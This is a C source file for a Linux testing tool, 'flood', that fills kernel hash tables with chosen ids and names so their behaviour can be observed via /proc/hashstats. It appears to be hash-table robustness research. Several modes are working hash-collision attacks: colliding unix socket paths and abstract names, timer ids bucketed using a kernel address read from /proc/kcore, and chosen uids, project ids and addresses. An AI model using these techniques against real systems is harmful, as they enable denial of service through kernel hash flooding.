// SPDX-License-Identifier: GPL-2.0
/*
 * flood - fill a hash table with ids that an attacker chose, and run a command
 *
 *	flood users IDS COMMAND...
 *	flood namespace IDS COMMAND...
 *	flood projects FILE IDS COMMAND...
 *	flood timers ADDRESS BUCKETS NUMBER COMMAND...
 *	flood addresses IDS COMMAND...
 *	flood sockets DIR NUMBER COMMAND...
 *	flood names NUMBER COMMAND...
 *
 * IDS is a file with one number per line. A child creates an object for each
 * of them. COMMAND, usually a reader of /proc/hashstats, runs while the objects
 * exist. Then the child ends, and its objects go.
 *
 * users	A file that was opened as a user holds this user in the tables
 *		uid and ucounts.
 * namespace	The same in a new user namespace, to which all users are mapped.
 * projects	The unprivileged owner of FILE, which is created, moves it to each
 *		project. The kernel keeps the quota of every project in memory.
 * timers	Of the first NUMBER timers, keep those that share a bucket with the
 *		first one in the table of mainline 6.12. Its hash function uses the
 *		address of the process's signal_struct. The child reads it from
 *		/proc/kcore, as an attacker to whom the address leaked. ADDRESS is
 *		that of posix_timers_hashtable, which has BUCKETS buckets. Print
 *		the address in 32 bits, as the function uses it, and the number of
 *		timers that are kept.
 * addresses	An unprivileged user adds each of them, of IPv4, to devices in a new
 *		network namespace.
 * sockets	The unprivileged owner of DIR, which must be new and on tmpfs, binds
 *		NUMBER sockets to paths whose inode numbers are equal modulo 256,
 *		which is the bucket in the table of mainline.
 * names	An unprivileged user binds NUMBER sockets to abstract names that have
 *		the same Internet checksum, which gives the bucket in the table of
 *		mainline, and as many to names that have not. The former begin with
 *		"chosen", the latter with "other".
 */
#include <elf.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <net/if.h>
#include <sched.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "netlink.h"

#define MAX_IDS		100000
#define OWNER		1000	/* of the file that changes its project */
#define GOLDEN_RATIO_32	0x61C88647U
#define TIMER_BITS	9	/* of mainline's table */
#define SIGNAL_SIZE	2048	/* more than a struct signal_struct has */
#define DEVICE_ADDRESSES 500	/* each new one is compared with them */
#define UNIX_BUCKETS	256	/* of mainline's table */
#define NAME_WORDS	8	/* of two letters: 40320 orders */

static unsigned int ids[MAX_IDS], nr_ids;

/* The child tells the parent that it is ready, and waits until it may go on. */
static int ready[2], resume[2];

static void read_ids(const char *path)
{
	FILE *file = fopen(path, "r");

	if (!file)
		fail("open", path);
	while (nr_ids < MAX_IDS && fscanf(file, "%u", &ids[nr_ids]) == 1)
		nr_ids++;
	if (!nr_ids || !feof(file))
		fail("numbers in", path);
	fclose(file);
}

static void meet_parent(void)
{
	char byte;

	if (write(ready[1], "", 1) != 1)
		fail("write to", "pipe");
	if (read(resume[0], &byte, 1) < 0)
		fail("read from", "pipe");
}

/* Users. */

static void open_as_users(char **args)
{
	unsigned int i;

	read_ids(args[0]);
	for (i = 0; i < nr_ids; i++) {
		/* The effective user stays root. */
		if (syscall(SYS_setresuid, ids[i], 0, 0))
			fail("setresuid", "");
		if (open("/dev/null", O_RDONLY) < 0)
			fail("open", "/dev/null");
	}
}

static void open_in_namespace(char **args)
{
	if (unshare(CLONE_NEWUSER))
		fail("unshare", "CLONE_NEWUSER");
	/* Only a privileged user of the parent's namespace may map all users. */
	meet_parent();
	open_as_users(args);
}

static void map_all_users(pid_t pid)
{
	static const char map[] = "0 0 4294967295";
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, map, strlen(map)) < 0)
		fail("write", path);
	close(fd);
}

/* Projects. */

static void move_to_projects(char **args)
{
	int fd = open(args[0], O_CREAT | O_RDWR, 0600);
	unsigned int i;

	if (fd < 0 || fchown(fd, OWNER, OWNER))
		fail("create", args[0]);
	read_ids(args[1]);
	if (syscall(SYS_setresuid, OWNER, OWNER, OWNER))
		fail("setresuid", "");
	for (i = 0; i < nr_ids; i++) {
		struct fsxattr attr = { .fsx_projid = ids[i] };

		if (ioctl(fd, FS_IOC_FSSETXATTR, &attr))
			fail("FS_IOC_FSSETXATTR", args[0]);
	}
}

/* Timers. */

static void read_kernel(unsigned long address, void *data, size_t size)
{
	static int fd = -1;
	Elf64_Ehdr head;
	Elf64_Phdr part;
	unsigned int i;

	if (fd < 0)
		fd = open("/proc/kcore", O_RDONLY);
	if (pread(fd, &head, sizeof(head), 0) != sizeof(head))
		fail("read", "/proc/kcore");
	for (i = 0; i < head.e_phnum; i++) {
		if (pread(fd, &part, sizeof(part), head.e_phoff + i * sizeof(part)) !=
		    sizeof(part))
			fail("read", "/proc/kcore");
		if (part.p_type == PT_LOAD && address >= part.p_vaddr &&
		    address + size <= part.p_vaddr + part.p_memsz) {
			if (pread(fd, data, size, part.p_offset + address - part.p_vaddr) !=
			    (ssize_t)size)
				fail("read", "/proc/kcore");
			return;
		}
	}
	errno = 0;
	fail("an address in", "/proc/kcore");
}

/* The address of the only timer, a struct k_itimer. */
static unsigned long find_timer(unsigned long variable, unsigned int buckets)
{
	struct { unsigned long lock, first; } bucket;
	unsigned long table, timer = 0;

	read_kernel(variable, &table, sizeof(table));
	while (buckets--) {
		read_kernel(table + buckets * sizeof(bucket), &bucket, sizeof(bucket));
		if (!bucket.first)
			continue;
		errno = 0;
		if (timer)
			fail("number of", "timers");
		/* Its node in the list of the process comes first. */
		timer = bucket.first - 2 * sizeof(long);
	}
	return timer;
}

/*
 * A timer's pprev points to the head of the list in its signal_struct. Of the
 * other words, only the address of this struct is a little lower.
 */
static unsigned long find_signal(unsigned long timer)
{
	unsigned long words[16], head;
	unsigned int i;

	read_kernel(timer, words, sizeof(words));
	head = words[1];
	for (i = 2; i < 16; i++) {
		if (words[i] < head && words[i] + SIGNAL_SIZE > head)
			return words[i];
	}
	errno = 0;
	fail("a signal_struct in", "a timer");
	return 0;
}

static unsigned int mainline_bucket(unsigned int signal, unsigned int id)
{
	return (signal ^ id) * GOLDEN_RATIO_32 >> (32 - TIMER_BITS);
}

static int create_timer(void)
{
	struct sigevent event = { .sigev_notify = SIGEV_NONE };
	int id;

	if (syscall(SYS_timer_create, CLOCK_MONOTONIC, &event, &id))
		fail("timer_create", "");
	return id;
}

static void keep_timers(char **args)
{
	unsigned int buckets = to_number("BUCKETS", args[1], 1, 1 << 24);
	unsigned int number = to_number("NUMBER", args[2], 1, 1 << 30);
	unsigned int first = create_timer(), kept = 1, signal, i;
	unsigned long address;

	address = find_signal(find_timer(strtoul(args[0], NULL, 16), buckets));
	signal = address ^ address >> 32;
	for (i = 1; i < number; i++) {
		int id = create_timer();

		if (mainline_bucket(signal, id) == mainline_bucket(signal, first))
			kept++;
		else if (syscall(SYS_timer_delete, id))
			fail("timer_delete", "");
	}
	printf("%u %u\n", signal, kept);
	fflush(stdout);
}

/* Addresses, sockets with a path, and abstract names. */

static void become_owner(void)
{
	if (syscall(SYS_setresgid, OWNER, OWNER, OWNER) ||
	    syscall(SYS_setresuid, OWNER, OWNER, OWNER))
		fail("setresuid", "");
}

static void add_addresses(char **args)
{
	unsigned int i, device = 0;

	read_ids(args[0]);
	become_owner();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
		fail("unshare", "CLONE_NEWNET");
	for (i = 0; i < nr_ids; i++) {
		if (i % DEVICE_ADDRESSES == 0) {
			char name[IFNAMSIZ];

			snprintf(name, sizeof(name), "flood%u", i / DEVICE_ADDRESSES);
			add_dummy(name);
			device = if_nametoindex(name);
		}
		/* The kernel hashes the bytes of an address as they are. */
		add_address(device, ntohl(ids[i]));
	}
}

static int bind_socket(const struct sockaddr_un *address, size_t path_size)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (fd < 0 || bind(fd, (const struct sockaddr *)address,
			   offsetof(struct sockaddr_un, sun_path) + path_size))
		fail("bind", address->sun_path);
	return fd;
}

/* The inode that tmpfs makes next has one more, if no other CPU makes it. */
static unsigned long new_inode(const char *path)
{
	struct stat about;

	if (mknod(path, S_IFREG | 0600, 0) || stat(path, &about) || unlink(path))
		fail("create", path);
	return about.st_ino;
}

static void bind_paths(char **args)
{
	unsigned int number = to_number("NUMBER", args[1], 1, MAX_IDS), i;
	struct sockaddr_un address = { .sun_family = AF_UNIX };

	if (mkdir(args[0], 0700) || chown(args[0], OWNER, OWNER))
		fail("create", args[0]);
	become_owner();
	if (chdir(args[0]))
		fail("chdir", args[0]);
	for (i = 0; i < number;) {
		struct stat about;
		int fd;

		while ((new_inode("file") + 1) % UNIX_BUCKETS)
			;
		snprintf(address.sun_path, sizeof(address.sun_path), "%u", i);
		fd = bind_socket(&address, strlen(address.sun_path) + 1);
		if (stat(address.sun_path, &about))
			fail("stat", address.sun_path);
		if (about.st_ino % UNIX_BUCKETS == 0)
			i++;
		else if (close(fd) || unlink(address.sun_path))
			fail("unlink", address.sun_path);
	}
}

static void bind_name(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };

	/* The first byte of an abstract name is 0. */
	strcpy(address.sun_path + 1, name);
	bind_socket(&address, 1 + strlen(name));
}

/* The order of words with this number. */
static void put_words(char *to, unsigned int number)
{
	char words[NAME_WORDS + 1] = "ABCDEFGH";
	unsigned int left;

	for (left = NAME_WORDS; left; left--) {
		unsigned int at = number % left;

		*to++ = words[at];
		*to++ = 'x';
		memmove(words + at, words + at + 1, left - at);
		number /= left;
	}
	*to = '\0';
}

static void bind_names(char **args)
{
	unsigned int number = to_number("NUMBER", args[0], 1, 40320), i;
	char name[64] = "chosen-";

	become_owner();
	for (i = 0; i < number; i++) {
		/* At an even place: words of 16 bits, in another order. */
		put_words(name + strlen("chosen-"), i);
		bind_name(name);
	}
	for (i = 0; i < number; i++) {
		snprintf(name, sizeof(name), "other-%u", i);
		bind_name(name);
	}
}

static const struct kind {
	const char *name;
	int args;
	void (*fill)(char **args);
	void (*help)(pid_t child);	/* by the parent, once */
} kinds[] = {
	{ "users", 1, open_as_users },
	{ "namespace", 1, open_in_namespace, map_all_users },
	{ "projects", 2, move_to_projects },
	{ "timers", 3, keep_timers },
	{ "addresses", 1, add_addresses },
	{ "sockets", 2, bind_paths },
	{ "names", 1, bind_names },
};

static void show_usage(void)
{
	usage("usage: flood users IDS COMMAND...\n"
	      "       flood namespace IDS COMMAND...\n"
	      "       flood projects FILE IDS COMMAND...\n"
	      "       flood timers ADDRESS BUCKETS NUMBER COMMAND...\n"
	      "       flood addresses IDS COMMAND...\n"
	      "       flood sockets DIR NUMBER COMMAND...\n"
	      "       flood names NUMBER COMMAND...\n");
}

static const struct kind *find_kind(const char *name, int words)
{
	unsigned int i;

	for (i = 0; i < sizeof(kinds) / sizeof(*kinds); i++) {
		if (!strcmp(name, kinds[i].name) && words > kinds[i].args)
			return &kinds[i];
	}
	show_usage();
	return NULL;
}

/* False if the child ended, which said why. */
static int is_ready(void)
{
	char byte;

	return read(ready[0], &byte, 1) == 1;
}

static int ended_well(pid_t pid)
{
	int status;

	return waitpid(pid, &status, 0) == pid && !status;
}

static int run(char **command)
{
	pid_t pid = fork();

	if (pid < 0)
		fail("fork", "");
	if (!pid) {
		execvp(command[0], command);
		fail("run", command[0]);
	}
	return ended_well(pid);
}

int main(int argc, char **argv)
{
	const struct rlimit files = { MAX_IDS + 64, MAX_IDS + 64 };
	const struct rlimit signals = { RLIM_INFINITY, RLIM_INFINITY };
	const struct kind *kind;
	int good;
	pid_t child;

	if (argc < 3)
		show_usage();
	kind = find_kind(argv[1], argc - 2);
	argv += 2;
	if (setrlimit(RLIMIT_NOFILE, &files) || setrlimit(RLIMIT_SIGPENDING, &signals))
		fail("setrlimit", "");
	if (pipe2(ready, O_CLOEXEC) || pipe2(resume, O_CLOEXEC))
		fail("pipe", "");
	child = fork();
	if (child < 0)
		fail("fork", "");
	if (!child) {
		close(ready[0]);
		close(resume[1]);
		kind->fill(argv);
		meet_parent();
		exit(0);
	}
	close(ready[1]);
	close(resume[0]);
	good = 1;
	if (kind->help) {
		good = is_ready();
		if (good) {
			kind->help(child);
			good = write(resume[1], "", 1) == 1;
		}
	}
	good = good && is_ready() && run(argv + kind->args);
	/* Lets the child go on, to its end. */
	close(resume[1]);
	return !(ended_well(child) && good);
}
